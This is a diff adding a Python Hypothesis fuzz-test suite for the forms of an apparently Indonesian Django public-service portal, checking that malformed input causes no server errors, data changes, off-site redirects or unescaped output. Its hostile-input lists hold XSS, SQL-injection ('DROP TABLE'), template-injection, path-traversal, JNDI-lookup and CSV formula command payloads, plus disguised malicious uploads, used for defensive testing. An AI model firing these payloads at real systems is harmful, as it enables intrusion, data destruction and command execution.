@@ -1,0 +1,718 @@
+"""Masukan acak dan jahat ke setiap formulir portal (hypothesis).
+
+Setiap baris ``FORMULIR`` adalah satu view yang menerima formulir: nama URL, penyiapan data dan argumen URL,
+peran yang mengirim, dan kelas form-nya. Hypothesis mulai dari kiriman yang sah lalu merusak setiap field
+(teks unicode acak, karakter kendali, NUL, teks sangat panjang, injeksi SQL/HTML/JS, angka di luar rentang,
+tanggal/desimal/UUID rusak, field hilang, field tambahan, daftar sebagai ganti nilai tunggal). Yang dijaga:
+- tidak pernah 5xx (pengecualian di view juga menggagalkan uji: klien uji meneruskannya);
+- bila jawabannya bukan pengalihan (tanda berhasil), tidak ada baris domain yang bertambah, berkurang, atau
+  berubah (``potret_basis_data``: satu kueri agregat jumlah baris + updated_at terakhir per tabel);
+- pengalihan hanya ke portal sendiri;
+- muatan HTML/JS yang dikirim tampil ter-escape bila halamannya ditampilkan ulang.
+Setiap contoh berjalan dalam savepoint yang dibatalkan, jadi contoh berikutnya melihat data awal yang sama.
+
+Menambah formulir (mis. app penghargaan): tulis fungsi ``_siapkan_xxx(d) -> (kwargs_url, data_sah)`` yang
+memakai ``Dunia`` (fixture lewat ``d.fx("nama")``) lalu tambahkan ``Formulir(...)`` ke ``FORMULIR``. Label app
+baru otomatis ikut dipotret bila tercantum di ``APP_DOMAIN``.
+"""
+
+import inspect
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from datetime import timedelta
+from functools import cached_property
+from urllib.parse import urlparse
+
+import pytest
+from django import forms
+from django.apps import apps
+from django.contrib import messages
+from django.contrib.auth.forms import PasswordChangeForm
+from django.core import signing
+from django.core.cache import cache
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection, transaction
+from django.urls import get_resolver, reverse
+from django.utils import timezone
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from akun.forms import FormMasuk, PenggunaAdminForm
+from evaluasi.forms_biro import KembalikanForm, PenilaianForm, SiklusForm
+from evaluasi.forms_bukti import BuktiForm
+from evaluasi.forms_f01 import IsianF01Form
+from evaluasi.forms_sanggahan import JawabanSanggahanForm, SanggahanForm
+from evaluasi.forms_skm import ImporSKMForm, NRRForm, PeriodeSKMForm, SurveiForm
+from evaluasi.forms_skm_hasil import KepatuhanOmbudsmanForm, RTLForm, RTLSelesaiForm
+from evaluasi.models import InstrumenVersi
+from evaluasi.models.skm import UNSUR_FIELDS
+from kaltim_yanlik.core import pembatas
+from kode_etik.forms import JenisLayananForm, PelaksanaForm, PenyelenggaraForm
+from kode_etik.models import JenisLayanan, Larangan
+from sanksi.forms_kasus import BukaKasusForm, PemanggilanForm
+from sanksi.forms_pengaduan import PengaduanCatatForm, PengaduanPublikForm, UbahStatusForm
+
+pytestmark = pytest.mark.django_db
+
+APP_DOMAIN = ("core", "akun", "kode_etik", "sanksi", "evaluasi", "penghargaan")
+SANDI = "sandi-uji-123"  # conftest.py
+PDF_KECIL = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+CONTOH_PER_FORMULIR = 15
+
+
+# --- Potret basis data ---------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class _Tabel:
+    nama: str
+    punya_updated_at: bool
+
+
+def _tabel_domain() -> list[_Tabel]:
+    tabel = []
+    for model in apps.get_models():
+        meta = model._meta
+        if meta.app_label in APP_DOMAIN and meta.managed and not meta.proxy:
+            kolom = {f.column for f in meta.concrete_fields}
+            tabel.append(_Tabel(meta.db_table, "updated_at" in kolom))
+    return sorted(set(tabel), key=lambda t: t.nama)
+
+
+def potret_basis_data() -> tuple:
+    """Jumlah baris (dan updated_at terbaru bila ada) setiap tabel domain, dalam satu kueri."""
+    bagian = []
+    for t in _tabel_domain():
+        nama = connection.ops.quote_name(t.nama)
+        # Nama tabel dari _meta model sendiri (dikutip), bukan dari masukan.
+        bagian.append(f"(SELECT COUNT(*) FROM {nama})")  # noqa: S608
+        if t.punya_updated_at:
+            bagian.append(f"(SELECT MAX(updated_at) FROM {nama})")  # noqa: S608
+    with connection.cursor() as kursor:
+        kursor.execute("SELECT " + ", ".join(bagian))
+        return tuple(kursor.fetchone())
+
+
+# --- Data awal per formulir ----------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Berkas:
+    """Unggahan yang dibuat ulang setiap contoh (objek berkas habis dibaca setelah dikirim)."""
+
+    nama: str
+    isi: bytes
+
+    def unggahan(self) -> SimpleUploadedFile:
+        return SimpleUploadedFile(self.nama, self.isi)
+
+
+def _token_isi(detik=60) -> str:
+    """Cap waktu formulir publik yang dibuka ``detik`` lalu (lolos pemeriksaan waktu isi minimal)."""
+    return signing.dumps(time.time() - detik, salt=pembatas._GARAM_WAKTU)
+
+
+class Dunia:
+    """Data yang dibutuhkan satu formulir, dibuat sekali per uji dan hanya bila diminta."""
+
+    def __init__(self, request):
+        self.request = request
+
+    def fx(self, nama):
+        return self.request.getfixturevalue(nama)
+
+    @cached_property
+    def hari(self):
+        return timezone.localdate()
+
+    @cached_property
+    def instrumen(self):
+        return InstrumenVersi.objects.get(tahun=2025, jenis="A")
+
+    def siklus(self, fase):
+        from evaluasi.models import SiklusMonev
+        from evaluasi.services import siklus_buka
+        from evaluasi.tests.conftest import jendela_siklus
+
+        siklus = SiklusMonev(
+            tahun=2025, nama="Monev PEKPPP 2025", instrumen=self.instrumen, **jendela_siklus(self.hari, fase)
+        )
+        return siklus_buka(siklus=siklus, oleh=self.fx("biro"), lokus=[self.fx("dinkes"), self.fx("samsat")])
+
+    def geser(self, siklus, fase):
+        from evaluasi.tests.conftest import jendela_siklus
+
+        for nama, nilai in jendela_siklus(self.hari, fase).items():
+            setattr(siklus, nama, nilai)
+        siklus.save()
+
+    @cached_property
+    def evaluasi_pengisian(self):
+        return self.siklus("pengisian").evaluasi.get(penyelenggara=self.fx("dinkes"))
+
+    @cached_property
+    def evaluasi_diajukan(self):
+        """Dinkes sudah mengajukan F-01 (indikator 2 dengan bukti wajib); hari ini fase penilaian."""
+        from evaluasi import services
+        from evaluasi.tests.alur import indikator, unggah_slot_wajib
+
+        ev = self.evaluasi_pengisian
+        operator = self.fx("operator_dinkes")
+        services.jawaban_simpan(
+            evaluasi=ev,
+            indikator=indikator(self.instrumen, 2),
+            isian={"unsur": ["pengguna_layanan", "ahli"]},
+            catatan="",
+            versi=0,
+            oleh=operator,
+        )
+        unggah_slot_wajib(ev, operator)
+        services.evaluasi_ajukan(evaluasi=ev, oleh=self.fx("kepala_dinkes"))
+        self.geser(ev.siklus, "penilaian")
+        ev.refresh_from_db()
+        return ev
+
+    @cached_property
+    def evaluasi_dinilai(self):
+        """Semua indikator dinilai level 3 dan selesai dinilai; hari ini fase perbaikan (masa sanggah)."""
+        from evaluasi import services
+        from evaluasi.tests.alur import nilai, nomor_dinilai
+
+        ev = self.evaluasi_diajukan
+        nilai(ev, self.fx("biro"), dict.fromkeys(nomor_dinilai(self.instrumen), 3))
+        services.evaluasi_selesai_dinilai(evaluasi=ev, oleh=self.fx("biro"))
+        self.geser(ev.siklus, "perbaikan")
+        ev.refresh_from_db()
+        return ev
+
+    @cached_property
+    def sanggahan(self):
+        from evaluasi import services
+        from evaluasi.tests.alur import indikator
+
+        return services.sanggahan_ajukan(
+            evaluasi=self.evaluasi_dinilai,
+            indikator=indikator(self.instrumen, 14),
+            level_diminta=5,
+            alasan="Laporan tindak lanjut sudah ada.",
+            lampiran=[Berkas("bukti.pdf", PDF_KECIL).unggahan()],
+            oleh=self.fx("kepala_dinkes"),
+        )
+
+    @cached_property
+    def periode(self):
+        from evaluasi import services
+
+        return services.periode_skm_buat(
+            penyelenggara=self.fx("dinkes"),
+            nama="Semester II",
+            mulai=self.hari - timedelta(days=10),
+            selesai=self.hari + timedelta(days=10),
+            populasi=1000,
+            oleh=self.fx("kepala_dinkes"),
+        )
+
+    @cached_property
+    def rtl(self):
+        from evaluasi import services
+
+        return services.rtl_tambah(
+            periode=self.periode,
+            unsur="U9",
+            kegiatan="Tambah kursi ruang tunggu",
+            penanggung_jawab="Kasubag Umum",
+            tenggat=self.hari + timedelta(days=30),
+            oleh=self.fx("operator_dinkes"),
+        )
+
+    @cached_property
+    def layanan(self):
+        return JenisLayanan.objects.create(penyelenggara=self.fx("dinkes"), nama="Izin Apotek")
+
+    @cached_property
+    def pengaduan(self):
+        from sanksi import services
+
+        return services.pengaduan_kirim_publik(
+            penyelenggara=self.fx("dinkes"),
+            uraian="Antrean loket dibiarkan dua jam tanpa petugas.",
+            alamat_ip="198.51.100.1",
+        )
+
+    @cached_property
+    def kasus(self):
+        from sanksi import services
+        from sanksi.models import Pelanggaran
+
+        return services.pelanggaran_buka(
+            pelaksana=self.fx("pelaksana_dinkes"),
+            larangan=Larangan.objects.get(huruf="a"),
+            uraian="Meninggalkan loket pelayanan tanpa alasan.",
+            sumber=Pelanggaran.Sumber.TEMUAN_ATASAN,
+            oleh=self.fx("operator_dinkes"),
+        )
+
+
+def _masuk(d):
+    d.fx("operator_dinkes")
+    return {}, {"username": "operator.dinkes", "password": SANDI}
+
+
+def _ganti_sandi(d):
+    baru = "Kaltim-Berakhlak-2025"
+    return {}, {"old_password": SANDI, "new_password1": baru, "new_password2": baru}
+
+
+def _data_unit(kode):
+    return {"kode": kode, "nama": "Dinas Uji", "singkatan": "DU", "jenis": "PD", "alamat": "", "aktif": "on"}
+
+
+def _penyelenggara_baru(d):
+    return {}, _data_unit("PD-UJI")
+
+
+def _penyelenggara_ubah(d):
+    return {"code": d.fx("dinkes").code}, _data_unit("PD-DINKES")
+
+
+def _data_pelaksana(d):
+    return {"nama": "Siti Aminah", "nip": "", "jabatan": "Petugas loket", "kategori": "petugas"} | {
+        "penyelenggara": d.fx("dinkes").pk,
+        "aktif": "on",
+    }
+
+
+def _pelaksana_baru(d):
+    return {}, _data_pelaksana(d)
+
+
+def _pelaksana_ubah(d):
+    return {"code": d.fx("pelaksana_dinkes").code}, _data_pelaksana(d)
+
+
+def _jenis_layanan_baru(d):
+    return {"unit_code": d.fx("dinkes").code}, {"nama": "Izin Klinik", "keterangan": "", "aktif": "on"}
+
+
+def _jenis_layanan_ubah(d):
+    kwargs = {"unit_code": d.fx("dinkes").code, "code": d.layanan.code}
+    return kwargs, {"nama": "Izin Klinik", "keterangan": "", "aktif": "on"}
+
+
+def _pengaduan_publik(d):
+    return {}, {
+        "penyelenggara": str(d.fx("dinkes").code),
+        "uraian": "Saya diminta uang pelicin agar didahulukan di loket.",
+        "tanggal_kejadian": (d.hari - timedelta(days=3)).isoformat(),
+        "situs_web": "",
+        "waktu_isi": _token_isi(),
+        "lampiran": Berkas("bukti.pdf", PDF_KECIL),
+    }
+
+
+def _pengaduan_lacak(d):
+    return {}, {"kode": d.pengaduan.kode_lacak}
+
+
+def _pengaduan_catat(d):
+    return {}, {
+        "penyelenggara": str(d.fx("dinkes").code),
+        "saluran": "sp4n_lapor",
+        "nomor_lapor": "#1234 567",
+        "uraian": "Diteruskan dari SP4N-LAPOR!: pelayanan ditolak tanpa alasan.",
+    }
+
+
+def _pengaduan_status(d):
+    d.fx("kepala_dinkes")
+    return {"code": d.pengaduan.code}, {"status": "diverifikasi", "keterangan_publik": "Sedang diperiksa."}
+
+
+def _kasus_buka(d):
+    return {}, {
+        "pelaksana": d.fx("pelaksana_dinkes").code,
+        "larangan": Larangan.objects.get(huruf="a").pk,
+        "sumber": "temuan_atasan",
+        "uraian": "Berkata kasar kepada pemohon.",
+    }
+
+
+def _kasus_panggil(d):
+    return {"code": d.kasus.code, "langkah": "pemanggilan"}, {
+        "pemanggilan-nomor_surat": "800/1",
+        "pemanggilan-tanggal_surat": d.hari.isoformat(),
+        "pemanggilan-jadwal": f"{d.hari.isoformat()}T10:00",
+        "pemanggilan-tempat": "Aula",
+    }
+
+
+def _siklus_baru(d):
+    from evaluasi.tests.conftest import jendela_siklus
+
+    jendela = {k: v.isoformat() for k, v in jendela_siklus(d.hari).items()}
+    return {}, {
+        "tahun": 2027,
+        "nama": "",
+        "instrumen": d.instrumen.pk,
+        **jendela,
+        "lokus": [d.fx("dinkes").pk],
+    }
+
+
+def _nilai_simpan(d):
+    kwargs = {"code": d.evaluasi_diajukan.code, "nomor": 2}
+    return kwargs, {"i2-level": "4", "i2-catatan": "", "i2-rekomendasi": "", "i2-alasan": ""}
+
+
+def _kembalikan(d):
+    return {"code": d.evaluasi_diajukan.code}, {"alasan_2": "Bukti kurang"}
+
+
+def _f01(d):
+    kwargs = {"code": d.evaluasi_pengisian.code, "nomor": 2}
+    return kwargs, {"versi": "0", "isian_unsur": ["pengguna_layanan", "ahli"], "catatan": "FKP 12 Mei."}
+
+
+def _f01_pratinjau(d):
+    return {"code": d.evaluasi_pengisian.code, "nomor": 2}, {"isian_unsur": ["pengguna_layanan", "ahli"]}
+
+
+def _bukti_unggah(d):
+    from evaluasi.tests.alur import indikator
+
+    slot = indikator(d.instrumen, 2).slot_bukti.first()
+    kwargs = {"code": d.evaluasi_pengisian.code, "nomor": 2}
+    return kwargs, {
+        "slot": str(slot.code),
+        "berkas": Berkas("bukti.pdf", PDF_KECIL),
+        "berlaku_tanggal": d.evaluasi_pengisian.siklus.pengisian_mulai.isoformat(),
+    }
+
+
+def _sanggahan_ajukan(d):
+    kwargs = {"code": d.evaluasi_dinilai.code, "nomor": 14}
+    return kwargs, {
+        "level_diminta": "5",
+        "alasan": "Ada bukti baru.",
+        "lampiran": Berkas("baru.pdf", PDF_KECIL),
+    }
+
+
+def _sanggahan_jawab(d):
+    return {"code": d.sanggahan.code}, {
+        "keputusan": "diterima",
+        "level_baru": "5",
+        "jawaban": "Terverifikasi.",
+    }
+
+
+def _survei_publik(d):
+    data = {**dict.fromkeys(UNSUR_FIELDS, "3"), "situs_web": "", "waktu_isi": _token_isi()}
+    return {"code": d.periode.code}, data | {"jenis_layanan": str(d.layanan.code), "saran": ""}
+
+
+def _data_periode(d):
+    return {
+        "nama": "Tahun 2026",
+        "mulai": (d.hari + timedelta(days=40)).isoformat(),
+        "selesai": (d.hari + timedelta(days=70)).isoformat(),
+        "populasi": "400",
+    }
+
+
+def _skm_buat(d):
+    return {}, {"penyelenggara": str(d.fx("dinkes").code), **_data_periode(d)}
+
+
+def _skm_ubah(d):
+    return {"code": d.periode.code}, _data_periode(d)
+
+
+def _skm_impor(d):
+    csv = "u1;u2;u3;u4;u5;u6;u7;u8;u9;usia;jenis_kelamin;saran\n3;3;3;3;3;3;3;3;3;;;Baik\n"
+    return {"code": d.periode.code}, {"berkas": Berkas("skm.csv", csv.encode())}
+
+
+def _skm_nrr(d):
+    return {"code": d.periode.code}, {**dict.fromkeys(UNSUR_FIELDS, "3,5"), "jumlah_responden": "300"}
+
+
+def _rtl_tambah(d):
+    return {"code": d.periode.code}, {
+        "unsur": "U9",
+        "kegiatan": "Tambah kursi",
+        "penanggung_jawab": "Kasubag Umum",
+        "tenggat": (d.hari + timedelta(days=30)).isoformat(),
+    }
+
+
+def _rtl_selesaikan(d):
+    data = {"selesai_pada": d.hari.isoformat(), "keterangan": "Sudah.", "bukti": Berkas("rtl.pdf", PDF_KECIL)}
+    return {"code": d.rtl.code}, data
+
+
+def _ombudsman(d):
+    return {}, {"penyelenggara": d.fx("dinkes").pk, "tahun": "2025", "nilai": "85,5", "grade": "A"}
+
+
+def _admin_pengguna(d):
+    data = {"username": "pengguna.baru", "nama": "Pengguna Baru", "peran": "pimpinan", "is_active": "on"}
+    return {}, data | {"sandi_baru": "Sandi-Pengguna-Baru-8842"}
+
+
+@dataclass(frozen=True)
+class Formulir:
+    url: str  # nama URL
+    siapkan: Callable[[Dunia], tuple[dict, dict]]  # → (kwargs URL, data kiriman yang sah)
+    peran: str | None  # fixture pengguna pengirim; None = publik tanpa login
+    form: type[forms.BaseForm] | None  # sumber nama field (bersama kunci data sah)
+    awalan: str = ""  # prefix form
+    metode: str = "post"
+
+    def nama_field(self, data_sah: dict) -> list[str]:
+        dari_form = [f"{self.awalan}{n}" for n in self.form.base_fields] if self.form else []
+        return sorted(set(dari_form) | set(data_sah))
+
+
+FORMULIR = [
+    Formulir("akun:masuk", _masuk, None, FormMasuk),
+    Formulir("akun:ganti_sandi", _ganti_sandi, "operator_dinkes", PasswordChangeForm),
+    Formulir("admin:akun_pengguna_add", _admin_pengguna, "admin_portal", PenggunaAdminForm),
+    Formulir("kode_etik:penyelenggara_baru", _penyelenggara_baru, "biro", PenyelenggaraForm),
+    Formulir("kode_etik:penyelenggara_ubah", _penyelenggara_ubah, "biro", PenyelenggaraForm),
+    Formulir("kode_etik:pelaksana_baru", _pelaksana_baru, "operator_dinkes", PelaksanaForm),
+    Formulir("kode_etik:pelaksana_ubah", _pelaksana_ubah, "operator_dinkes", PelaksanaForm),
+    Formulir("kode_etik:jenis_layanan_baru", _jenis_layanan_baru, "operator_dinkes", JenisLayananForm),
+    Formulir("kode_etik:jenis_layanan_ubah", _jenis_layanan_ubah, "operator_dinkes", JenisLayananForm),
+    Formulir("sanksi:pengaduan_publik", _pengaduan_publik, None, PengaduanPublikForm),
+    Formulir("sanksi:pengaduan_lacak", _pengaduan_lacak, None, None, metode="get"),
+    Formulir("sanksi:pengaduan_catat", _pengaduan_catat, "operator_dinkes", PengaduanCatatForm),
+    Formulir("sanksi:pengaduan_ubah_status", _pengaduan_status, "kepala_dinkes", UbahStatusForm),
+    Formulir("sanksi:kasus_buka", _kasus_buka, "operator_dinkes", BukaKasusForm),
+    Formulir("sanksi:kasus_langkah", _kasus_panggil, "operator_dinkes", PemanggilanForm, "pemanggilan-"),
+    Formulir("evaluasi:siklus_baru", _siklus_baru, "biro", SiklusForm),
+    Formulir("evaluasi:nilai_simpan", _nilai_simpan, "biro", PenilaianForm, "i2-"),
+    Formulir("evaluasi:kembalikan", _kembalikan, "biro", KembalikanForm),
+    Formulir("evaluasi:f01", _f01, "operator_dinkes", IsianF01Form),
+    Formulir("evaluasi:f01_pratinjau", _f01_pratinjau, "operator_dinkes", IsianF01Form),
+    Formulir("evaluasi:bukti_unggah", _bukti_unggah, "operator_dinkes", BuktiForm),
+    Formulir("evaluasi:sanggahan_ajukan", _sanggahan_ajukan, "kepala_dinkes", SanggahanForm),
+    Formulir("evaluasi:sanggahan_detail", _sanggahan_jawab, "biro", JawabanSanggahanForm),
+    Formulir("evaluasi:survei_publik", _survei_publik, None, SurveiForm),
+    Formulir("evaluasi:skm_buat", _skm_buat, "operator_dinkes", PeriodeSKMForm),
+    Formulir("evaluasi:skm_ubah", _skm_ubah, "kepala_dinkes", PeriodeSKMForm),
+    Formulir("evaluasi:skm_impor", _skm_impor, "operator_dinkes", ImporSKMForm),
+    Formulir("evaluasi:skm_nrr", _skm_nrr, "kepala_dinkes", NRRForm),
+    Formulir("evaluasi:rtl_tambah", _rtl_tambah, "operator_dinkes", RTLForm),
+    Formulir("evaluasi:rtl_selesaikan", _rtl_selesaikan, "operator_dinkes", RTLSelesaiForm),
+    Formulir("evaluasi:ombudsman_catat", _ombudsman, "biro", KepatuhanOmbudsmanForm),
+]
+
+
+# --- Nilai jahat ---------------------------------------------------------------------------------------
+
+# Muatan yang, bila muncul apa adanya di halaman, berarti escape gagal.
+MUATAN_HTML = [
+    "<script>alert('fuzz-xss')</script>",
+    '"><img src=x onerror=alert("fuzz-xss")>',
+    "<svg/onload=alert('fuzz-xss')>",
+    "</textarea><script>alert('fuzz-xss')</script>",
+]
+JAHAT = [
+    *MUATAN_HTML,
+    "' OR '1'='1' --",
+    "1; DROP TABLE akun_pengguna; --",
+    "{{ 7*7 }}{% debug %}",
+    "../../../../etc/passwd",
+    "javascript:alert(1)",
+    "${jndi:ldap://contoh.invalid/a}",
+    "\x00",
+    "a\x00b",
+    "\u202e\u200b\ufeff",
+    "\r\n\t\x1b[31m",
+    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧",
+    "",
+    " ",
+    "x" * 100_000,
+]
+ANGKA = ["-1", "0", "-0", "1e309", "NaN", "Infinity", "3,5", "3.5", "1_000", "٣", "0x10", "2147483648"]
+ANGKA += ["99999999999999999999999999", "-9223372036854775809", "1e-999", "+-1"]
+TANGGAL = ["2025-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "31/12/2025", "2025-13-01", "1-1-1"]
+TANGGAL += ["2025-01-01T25:61", "1900-01-01", "0001-01-01T00:00"]
+UUID = ["00000000-0000-0000-0000-000000000000", "bukan-uuid", "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11"]
+BERKAS_JAHAT = [
+    Berkas("../../../etc/passwd.pdf", b"%PDF-1.4\n<script>alert(1)</script>"),
+    Berkas("bukti.pdf", b"MZ\x90\x00 bukan pdf"),
+    Berkas("a\x00.pdf", PDF_KECIL),
+    Berkas("kosong.pdf", b""),
+    Berkas("<img src=x>.csv", b"=cmd|' /C calc'!A0;\x00\xff\xfe"),
+]
+
+_teks_acak = st.text(st.characters(codec="utf-8"), max_size=60)
+_nilai_jahat = st.one_of(
+    st.sampled_from(JAHAT + ANGKA + TANGGAL + UUID),
+    _teks_acak,
+    st.integers(min_value=-(2**70), max_value=2**70).map(str),
+)
+_nilai_rusak = st.one_of(
+    st.just("HAPUS"),  # field hilang
+    _nilai_jahat,
+    st.lists(_nilai_jahat, min_size=2, max_size=3),  # daftar sebagai ganti nilai tunggal
+    st.sampled_from(BERKAS_JAHAT),
+)
+_field_tambahan = st.dictionaries(
+    st.one_of(
+        st.sampled_from(
+            ["id", "pk", "is_superuser", "is_staff", "peran", "penyelenggara_id", "status", "code"]
+        ),
+        st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=12),
+    ),
+    _nilai_jahat,
+    max_size=3,
+)
+
+
+def _kiriman(data_sah: dict, rusak: dict, tambahan: dict) -> dict:
+    """Kiriman sah dengan beberapa field dirusak atau dihapus, ditambah field asing."""
+    data = {**tambahan, **data_sah, **rusak}
+    data = {k: v for k, v in data.items() if not (isinstance(v, str) and v == "HAPUS")}
+    return {k: v.unggahan() if isinstance(v, Berkas) else v for k, v in data.items()}
+
+
+def _muatan_terkirim(data: dict) -> set[str]:
+    nilai = [x for v in data.values() for x in (v if isinstance(v, list) else [v])]
+    return {m for m in MUATAN_HTML if m in nilai}
+
+
+def _pesan_galat(respons) -> bool:
+    """Pengalihan yang membawa pesan peringatan/galat adalah penolakan (mis. F-02 kembali ke halamannya)."""
+    penyimpan = getattr(respons.wsgi_request, "_messages", None)
+    antre = getattr(penyimpan, "_queued_messages", [])
+    return any(m.level >= messages.WARNING for m in antre)
+
+
+def _pengalihan_lokal(respons) -> bool:
+    tujuan = urlparse(respons["Location"])
+    return tujuan.netloc in ("", "testserver") and tujuan.scheme in ("", "http", "https")
+
+
+@pytest.fixture(autouse=True)
+def _cache_bersih():
+    cache.clear()
+    yield
+    cache.clear()
+
+
+@pytest.mark.parametrize("formulir", FORMULIR, ids=[f.url for f in FORMULIR])
+@settings(
+    max_examples=CONTOH_PER_FORMULIR,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+    database=None,
+)
+@given(st.data())
+def test_formulir_tahan_masukan_jahat(request, client, formulir, data):
+    """Tanpa 5xx; kiriman yang ditolak tidak mengubah data; pengalihan lokal; muatan HTML ter-escape."""
+    dunia = _dunia(request, formulir)
+    kwargs, data_sah = dunia["sah"]
+    url = reverse(formulir.url, kwargs=kwargs)
+    # Beberapa field saja yang dirusak per contoh: sisanya sah, agar kiriman sampai ke validasi yang lebih
+    # dalam (service, batasan basis data) dan tidak berhenti di field wajib pertama yang kosong.
+    nama = data.draw(
+        st.lists(st.sampled_from(formulir.nama_field(data_sah)), min_size=1, max_size=3, unique=True),
+        label="field dirusak",
+    )
+    rusak = {n: data.draw(_nilai_rusak, label=n) for n in nama}
+    kiriman = _kiriman(data_sah, rusak, data.draw(_field_tambahan, label="tambahan"))
+
+    with transaction.atomic():
+        cache.clear()  # batas kiriman publik dan penguncian tidak terbawa antarcontoh
+        if dunia["pengguna"]:
+            client.force_login(dunia["pengguna"])
+        sebelum = potret_basis_data()
+        kirim = client.get if formulir.metode == "get" else client.post
+        r = kirim(url, kiriman, REMOTE_ADDR="203.0.113.9")
+        assert r.status_code < 500, r.content[:2000]
+        ditolak = r.status_code not in (301, 302, 303) or _pesan_galat(r)
+        if ditolak:
+            assert potret_basis_data() == sebelum, f"kiriman yang ditolak mengubah data ({r.status_code})"
+        halaman, muatan = r, _muatan_terkirim(kiriman)
+        if r.status_code in (301, 302, 303):
+            assert _pengalihan_lokal(r), r["Location"]
+            if muatan:
+                # Isian yang tersimpan (atau dibawa di sesi) tampil di halaman tujuan: harus ter-escape juga.
+                halaman = client.get(r["Location"])
+                assert halaman.status_code < 500
+        isi = halaman.content.decode(errors="replace")
+        for m in muatan:
+            assert m not in isi, f"muatan tidak ter-escape: {m}"
+        transaction.set_rollback(True)
+    client.logout()
+
+
+def _dunia(request, formulir) -> dict:
+    """Penyiapan satu kali per uji (hypothesis memanggil fungsi uji berkali-kali dengan fixture yang sama)."""
+    simpanan = request.node.__dict__.setdefault("_dunia_fuzz", {})
+    if not simpanan:
+        d = Dunia(request)
+        simpanan["sah"] = formulir.siapkan(d)
+        simpanan["pengguna"] = d.fx(formulir.peran) if formulir.peran else None
+    return simpanan
+
+
+# Kiriman sah yang berhasil menjawab dengan pengalihan, kecuali view yang menjawab di tempat.
+BERHASIL_TANPA_PENGALIHAN = {"sanksi:pengaduan_lacak": 200, "evaluasi:f01_pratinjau": 200}
+
+
+@pytest.mark.parametrize("formulir", FORMULIR, ids=[f.url for f in FORMULIR])
+def test_kiriman_sah_berhasil(request, client, formulir):
+    """Titik awal fuzz harus kiriman yang sah; bila tidak, setiap perusakan hanya menguji galat yang sama."""
+    dunia = _dunia(request, formulir)
+    kwargs, data_sah = dunia["sah"]
+    if dunia["pengguna"]:
+        client.force_login(dunia["pengguna"])
+    kirim = client.get if formulir.metode == "get" else client.post
+    kiriman = {k: v.unggahan() if isinstance(v, Berkas) else v for k, v in data_sah.items()}
+    r = kirim(reverse(formulir.url, kwargs=kwargs), kiriman, REMOTE_ADDR="203.0.113.9")
+    harapan = BERHASIL_TANPA_PENGALIHAN.get(formulir.url, 302)
+    assert r.status_code == harapan, r.content.decode(errors="replace")[:3000]
+
+
+# App yang formulirnya belum masuk tabel karena sedang dibangun; hapus dari sini saat ditambahkan ke FORMULIR.
+MENYUSUL = ("penghargaan:",)
+
+
+def test_setiap_view_formulir_ada_di_tabel():
+    """View baru yang menerima POST formulir harus ditambahkan ke FORMULIR (atau ke pengecualian di sini)."""
+    tanpa_field = {  # POST tanpa isian formulir (hanya tombol + CSRF) atau bukan formulir pengguna
+        "akun:keluar",
+        "evaluasi:siklus_hitung_ulang",
+        "evaluasi:siklus_publikasikan",
+        "evaluasi:siklus_tarik_publikasi",  # butuh siklus terbit; alasan diuji di evaluasi/tests
+        "evaluasi:selesai_dinilai",
+        "evaluasi:finalkan",
+        "evaluasi:ajukan",
+        "evaluasi:bukti_hapus",
+        "dokumen_buat",
+    }
+    teruji = {f.url for f in FORMULIR} | tanpa_field
+
+    def telusuri(resolver, ruang=""):
+        for p in resolver.url_patterns:
+            if hasattr(p, "url_patterns"):
+                ns = f"{ruang}{p.namespace}:" if p.namespace else ruang
+                if ns.startswith("admin:"):
+                    continue
+                yield from telusuri(p, ns)
+            elif p.name:
+                yield f"{ruang}{p.name}", p.callback
+
+    kurang = []
+    for nama, view in telusuri(get_resolver()):
+        sumber = inspect.getsource(inspect.unwrap(view)) if inspect.isfunction(inspect.unwrap(view)) else ""
+        if nama in teruji or nama.startswith(MENYUSUL):
+            continue
+        if "request.POST" in sumber or "@require_POST" in sumber:
+            kurang.append(nama)
+    assert not kurang, f"view formulir belum masuk FORMULIR: {kurang}"
